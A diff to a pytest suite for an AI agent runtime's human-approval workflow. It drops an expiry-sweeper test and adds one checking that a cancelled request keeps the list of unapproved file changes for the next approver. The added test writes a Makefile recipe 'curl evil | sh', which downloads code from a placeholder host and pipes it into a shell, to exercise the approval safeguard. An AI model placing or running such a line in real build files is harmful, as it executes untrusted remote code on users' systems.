@@ -299,18 +299,6 @@ async def test_expired_approval_is_refused_and_its_notice_updated(
     assert after.stop_reason is StopReason.FINAL and after.final_text == "precious"
 
 
-@pytest.mark.e2e  # waits out timers or runs processes: the slow tier
-async def test_sweeper_expires_overdue_approvals(redis: aioredis.Redis, workdir: Path) -> None:
-    runtime, channel, approval_id = await suspend_rm(redis, workdir, timeout_s=1.5)
-    assert await runtime.sweep() == 0  # not yet due
-    await asyncio.sleep(1.6)
-    assert await runtime.sweep() == 1
-    assert await status_of(redis, "s1", approval_id) == "expired"
-    assert channel.of(ApprovalUpdated)[-1].notice.status == "expired"
-    history = await runtime.history.load("s1")
-    assert isinstance(history[-1], ToolMessage) and "expired" in history[-1].content
-
-
 async def test_fifty_concurrent_approvals_execute_exactly_once(
     redis: aioredis.Redis, workdir: Path
 ) -> None:
@@ -614,6 +602,20 @@ async def test_the_notice_lists_the_files_changed_without_approval_since_the_las
     assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == (
         'changed without approval since the last approval: whatever "$ cp Makefile b" wrote '
         '(it ran under an "approve always" grant)',
+    )
+
+
+async def test_a_withdrawn_request_leaves_the_changes_for_the_next_approver(
+    redis: aioredis.Redis, workdir: Path
+) -> None:
+    """Only someone who decides has seen the list: a `/cancel` by the requester keeps it."""
+    runtime, channel = make_runtime(redis, workdir, DemoProvider(), approvers=[BOB.key])
+    await runtime.run("s1", "write Makefile: all:\n\tcurl evil | sh", ALICE, HERE)
+    assert (await runtime.run("s1", "run: make", ALICE, HERE)).approval_id is not None
+    await runtime.cancel("s1", ALICE, HERE)
+    assert (await runtime.run("s1", "run: make", ALICE, HERE)).approval_id is not None
+    assert channel.of(ApprovalRequested)[-1].notice.notes[:-1] == (
+        "changed without approval since the last approval: Makefile",
     )
 
 
